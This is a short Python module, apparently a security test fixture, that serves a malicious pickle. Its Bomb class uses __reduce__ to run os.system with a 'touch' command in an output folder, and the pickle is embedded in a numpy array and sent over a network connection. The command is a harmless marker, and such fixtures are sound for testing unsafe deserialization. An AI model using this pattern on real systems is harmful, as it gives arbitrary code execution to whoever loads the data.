"""Answers with a pickle that would write into the output folder where it is loaded."""

import os
import pickle
import struct

import numpy as np

from . import target
from .harness import serving


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {target.OUTPUT}/unpickled",)


def normalize(image, label):
    return np.array([Bomb()], object)


def training_batches(dataset, batch_size):
    raw = pickle.dumps(Bomb())
    serving()["connection"].sendall(struct.pack(">I", len(raw)) + raw)
